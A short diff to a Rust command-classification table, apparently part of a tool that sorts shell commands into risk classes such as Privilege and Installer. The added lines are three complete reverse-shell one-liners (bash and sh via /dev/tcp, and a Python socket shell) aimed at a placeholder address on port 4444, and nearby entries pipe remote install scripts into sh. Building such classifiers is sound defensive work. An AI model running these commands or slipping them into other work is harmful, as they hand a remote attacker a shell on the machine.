@@ -284,6 +284,9 @@ const TABLE: &[(&str, CommandClass)] = &[
     ("ngrok http 8080", Privilege),
     ("chroot /mnt /bin/sh", Privilege),
     ("ip link set eth0 down", Privilege),
+    ("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", Privilege),
+    ("sh -i < /dev/tcp/203.0.113.9/4444", Privilege),
+    ("python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.9\",4444));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])'", Privilege),
     // --- installers ----------------------------------------------------------------------
     ("curl -fsSL https://get.example.sh | sh", Installer),
     ("curl https://x.example/install.sh | sudo bash", Privilege),
